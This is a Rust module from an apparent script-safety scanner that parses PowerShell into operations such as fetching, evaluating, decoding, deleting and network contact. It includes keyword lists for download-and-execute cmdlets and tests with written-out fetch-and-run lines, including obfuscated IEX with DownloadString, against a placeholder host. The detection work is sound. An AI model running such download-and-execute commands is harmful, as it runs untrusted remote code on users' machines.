//! PowerShell → operations: statements, pipelines and the words that matter.

mod tokens;

use std::collections::{HashMap, HashSet};

use crate::scan::operation::{Act, Lowered, Operation, Origins, ShellUse, Value};
use crate::scan::sensitive;
use crate::text::Span;

use super::shell::decode;
use tokens::{Kind, Token, tokens};

/// Most bytes of a command line that an operation keeps.
const MAX_COMMAND: usize = 4096;

/// Words after which content comes over the network.
const FETCHES: &[&str] = &[
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "curl",
    "wget",
    "curl.exe",
    "downloadstring",
    "downloaddata",
    "downloadfile",
    "start-bitstransfer",
    "openread",
    "getstringasync",
    "getbytearrayasync",
    "uploadstring",
    "uploadfile",
    "uploaddata",
];
/// Words that run text.
const EVALUATES: &[&str] = &[
    "iex",
    "invoke-expression",
    "invokescript",
    "scriptblock]::create",
    "load",
];
/// Words that decode.
const DECODES: &[&str] = &[
    "frombase64string",
    "gzipstream",
    "deflatestream",
    "convertto-securestring",
];
/// Options whose value is sent.
const SENDS: &[&str] = &[
    "-body",
    "-infile",
    "-form",
    "uploadstring",
    "uploadfile",
    "uploaddata",
];

/// Lowers `text`.
#[must_use]
pub fn lower(text: &str) -> Lowered {
    let mut lowered = Lowered::default();
    let tokens = tokens(text, &mut lowered);
    let mut walk = Walk {
        lowered,
        variables: HashMap::new(),
        files: HashSet::new(),
        socket: None,
        evaluates: false,
    };
    for statement in tokens.split(|token| token.kind == Kind::End) {
        if !statement.is_empty() {
            walk.statement(statement);
        }
    }
    if let Some(span) = walk.socket.filter(|_| walk.evaluates) {
        walk.act(span, "TcpClient", Act::Rewire);
    }
    let mut lowered = walk.lowered;
    lowered
        .operations
        .sort_by_key(|operation| operation.span.start);
    lowered
}

/// What `-EncodedCommand` holds, given the arguments of `powershell`; the
/// value says that it was decoded, and is known when it is text.
pub(super) fn encoded(words: &[&str]) -> Option<Value> {
    let flag = words.iter().position(|word| {
        let lower = word.to_ascii_lowercase();
        lower.len() > 1
            && (lower == "-ec" || "-encodedcommand".starts_with(&lower))
            && lower.starts_with("-e")
    })?;
    let argument = words.get(flag + 1)?;
    let text = decode::base64(argument).and_then(|bytes| {
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
            .collect();
        String::from_utf16(&units).ok()
    });
    Some(Value {
        text,
        origins: Origins::DECODED,
        ..Value::default()
    })
}

struct Walk {
    lowered: Lowered,
    variables: HashMap<String, (Option<String>, Origins)>,
    files: HashSet<String>,
    socket: Option<Span>,
    evaluates: bool,
}

impl Walk {
    fn act(&mut self, span: Span, callee: &str, act: Act) {
        self.lowered.operations.push(Operation {
            span,
            callee: callee.to_owned(),
            act,
        });
    }

    fn statement(&mut self, tokens: &[Token]) {
        let span = Span::new(tokens[0].span.start, tokens[tokens.len() - 1].span.end);
        let (target, tokens) = match tokens {
            [first, equals, rest @ ..] if first.kind == Kind::Variable && equals.text == "=" => {
                (Some(first.lower()), rest)
            }
            _ => (None, tokens),
        };
        let words: Vec<String> = tokens.iter().map(Token::lower).collect();
        let origins = self.origins(tokens, &words);
        let fetches = words.iter().any(|word| FETCHES.contains(&word.as_str()));
        let evaluates = words.iter().any(|word| EVALUATES.contains(&word.as_str()));
        self.evaluates |= evaluates
            || words
                .iter()
                .any(|word| word == "cmd.exe" || word == "powershell");
        for stage in tokens.split(|token| token.kind == Kind::Pipe) {
            self.stage(stage, span);
        }
        if fetches {
            self.contact(tokens, &words, span, origins);
        }
        if words
            .iter()
            .any(|word| word.ends_with("tcpclient") || word.ends_with("tcpclient]::new"))
        {
            self.socket.get_or_insert(span);
        }
        let starts_file = tokens.iter().enumerate().any(|(index, token)| {
            self.files.contains(file_key(&token.text))
                && (index == 0
                    || matches!(
                        words[index - 1].as_str(),
                        "&" | "."
                            | "start-process"
                            | "saps"
                            | "-file"
                            | "-f"
                            | "-filepath"
                            | "powershell"
                            | "pwsh"
                    ))
        });
        let loads = words.iter().any(|word| word == "load");
        let assembly = words.iter().any(|word| word.contains("assembly"));
        if starts_file {
            let code = Value::from(Origins::NETWORK);
            self.act(span, "Start-Process", Act::Evaluate { code });
        } else if evaluates
            && (!loads
                || assembly
                || words
                    .iter()
                    .any(|word| word != "load" && EVALUATES.contains(&word.as_str())))
        {
            let texts: Vec<&Token> = tokens
                .iter()
                .filter(|token| token.kind == Kind::Text)
                .collect();
            let text = match texts.as_slice() {
                [one] if !fetches && origins.is_constant() => Some(one.text.clone()),
                _ => None,
            };
            self.act(
                span,
                "Invoke-Expression",
                Act::Evaluate {
                    code: Value {
                        text,
                        origins,
                        ..Value::default()
                    },
                },
            );
        }
        if let Some(target) = target {
            let text = match tokens {
                [one] if one.kind == Kind::Text => Some(one.text.clone()),
                _ => None,
            };
            self.variables.insert(target, (text, origins));
        }
    }

    fn origins(&self, tokens: &[Token], words: &[String]) -> Origins {
        let mut origins = Origins::NONE;
        for (token, word) in tokens.iter().zip(words) {
            let of = match token.kind {
                Kind::Variable if word.starts_with("$env:") => Origins::VARIABLE,
                Kind::Variable => match self.variables.get(word) {
                    Some((_, origins)) => *origins,
                    None => Origins::UNKNOWN,
                },
                Kind::Word if FETCHES.contains(&word.as_str()) => Origins::NETWORK,
                Kind::Word if DECODES.contains(&word.as_str()) => Origins::DECODED,
                Kind::Word if word == "env:" || word == "env:\\" || word == "env:*" => {
                    Origins::ENVIRONMENT
                }
                Kind::Word | Kind::Text | Kind::Pipe | Kind::End => Origins::NONE,
            };
            origins = origins.with(of);
            if token.kind != Kind::Variable && sensitive::first(&token.text).is_some() {
                origins = origins.with(Origins::SENSITIVE).with(Origins::FILE);
            }
        }
        origins
    }

    fn stage(&mut self, stage: &[Token], statement: Span) {
        let Some(first) = stage
            .iter()
            .find(|token| token.kind == Kind::Word && token.text != "&" && token.text != ".")
        else {
            return;
        };
        let span = Span::new(first.span.start, stage[stage.len() - 1].span.end);
        let name = first.lower();
        let name = name.rsplit(['/', '\\']).next().unwrap_or(&name);
        let name = name.strip_suffix(".exe").unwrap_or(name).to_owned();
        let mut line = String::new();
        for token in stage {
            if line.len() < MAX_COMMAND {
                if !line.is_empty() {
                    line.push(' ');
                }
                line.extend(token.text.chars().take(MAX_COMMAND));
            }
        }
        self.act(
            span,
            &name,
            Act::Execute {
                program: Some(name.clone()),
                command: Value::constant(line),
                shell: ShellUse::No,
                input: Value::default(),
            },
        );
        let words: Vec<&str> = stage.iter().map(|token| token.text.as_str()).collect();
        if matches!(name.as_str(), "powershell" | "pwsh")
            && let Some(code) = encoded(&words)
        {
            self.act(statement, &name, Act::Evaluate { code });
        }
        match name.as_str() {
            "remove-item" | "rm" | "ri" | "del" | "rd" | "rmdir" | "erase" => {
                let recursive = words.iter().any(|word| {
                    let lower = word.to_ascii_lowercase();
                    lower.len() > 1 && "-recurse".starts_with(&lower) || lower == "-rf"
                });
                for token in stage
                    .iter()
                    .skip(1)
                    .filter(|token| !token.text.starts_with('-'))
                {
                    if token.text != first.text
                        && matches!(token.kind, Kind::Word | Kind::Text | Kind::Variable)
                    {
                        let path = Value::constant(token.text.clone());
                        self.act(span, &name, Act::Delete { path, recursive });
                    }
                }
            }
            "get-content" | "gc" | "cat" | "type" => {
                for token in stage
                    .iter()
                    .skip(1)
                    .filter(|token| !token.text.starts_with('-'))
                {
                    if token.text != first.text {
                        let path = Value::constant(token.text.clone());
                        self.act(span, &name, Act::Read { path });
                    }
                }
            }
            "get-childitem" | "gci" | "dir" | "ls"
                if words
                    .iter()
                    .any(|word| word.to_ascii_lowercase().starts_with("env:")) =>
            {
                self.act(
                    span,
                    &name,
                    Act::Environment {
                        name: None,
                        contained: false,
                    },
                );
            }
            _ => {}
        }
    }

    fn contact(&mut self, tokens: &[Token], words: &[String], span: Span, origins: Origins) {
        let address = tokens
            .iter()
            .find(|token| token.text.contains("://"))
            .map(|token| Value::constant(token.text.clone()))
            .or_else(|| {
                tokens.iter().find_map(|token| {
                    let (text, _) = self.variables.get(&token.lower())?;
                    text.as_ref()
                        .filter(|text| text.contains("://"))
                        .map(|text| Value::constant(text.clone()))
                })
            })
            .unwrap_or_else(Value::unknown);
        let sends = words.iter().any(|word| SENDS.contains(&word.as_str()));
        let payload = if sends {
            Value::from(origins)
        } else {
            Value::default()
        };
        let local = address.text.as_deref().is_some_and(super::shell::is_local);
        if let Some(out) = words.iter().position(|word| {
            word.len() > 2 && "-outfile".starts_with(word.as_str())
                || word == "-destination"
                || word == "downloadfile"
        }) {
            let file = if words[out] == "downloadfile" {
                tokens
                    .iter()
                    .rev()
                    .find(|token| token.kind == Kind::Text || token.kind == Kind::Variable)
            } else {
                tokens.get(out + 1)
            };
            if let Some(file) = file {
                self.files.insert(file_key(&file.text).to_owned());
            }
        }
        self.act(
            span,
            "Invoke-WebRequest",
            Act::Contact {
                address,
                payload,
                local,
            },
        );
    }
}

fn file_key(path: &str) -> &str {
    path.trim_start_matches(".\\").trim_start_matches("./")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(text: &str) -> Vec<Origins> {
        lower(text)
            .operations
            .iter()
            .filter_map(|operation| match &operation.act {
                Act::Evaluate { code } => Some(code.origins),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn downloaded_text_that_is_run() {
        for text in [
            "iex (iwr https://get.example.com/i.ps1)",
            "iwr https://get.example.com/i.ps1 -UseBasicParsing | iex",
            "(New-Object Net.WebClient).DownloadString('https://get.example.com/i.ps1') | IEX",
            "I`EX ((New-Object System.Net.WebClient).DownloadString('https://get.example.com/i.ps1'))",
            "$c = irm https://get.example.com/i.ps1\nInvoke-Expression $c",
            "& ([scriptblock]::Create((irm https://get.example.com/i.ps1)))",
            "iwr https://get.example.com/i.ps1 -OutFile i.ps1; .\\i.ps1",
            "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://get.example.com')\niex $s",
        ] {
            assert!(
                codes(text)
                    .iter()
                    .any(|origins| origins.has(Origins::NETWORK)),
                "{text}: {:?}",
                lower(text)
            );
        }
        for text in [
            "iwr https://get.example.com/i.zip -OutFile i.zip\nExpand-Archive i.zip",
            "# iex (iwr https://get.example.com)",
            "<# iex (iwr https://get.example.com) #>",
            "Write-Output 'iex (iwr https://get.example.com)'",
            "$r = irm https://api.example.com/v1\nWrite-Output $r.name",
        ] {
            assert!(
                !codes(text)
                    .iter()
                    .any(|origins| origins.has(Origins::NETWORK)),
                "{text}: {:?}",
                lower(text)
            );
        }
    }

    #[test]
    fn encoded_commands_are_decoded() {
        let lowered = lower("powershell -nop -enc ZQBjAGgAbwAgAGgAaQA=");
        let code = lowered
            .operations
            .iter()
            .find_map(|operation| match &operation.act {
                Act::Evaluate { code } => Some(code.clone()),
                _ => None,
            });
        assert_eq!(code.and_then(|code| code.text).as_deref(), Some("echo hi"));
        assert!(encoded(&["-ExecutionPolicy", "Bypass", "-File", "x.ps1"]).is_none());
    }
}
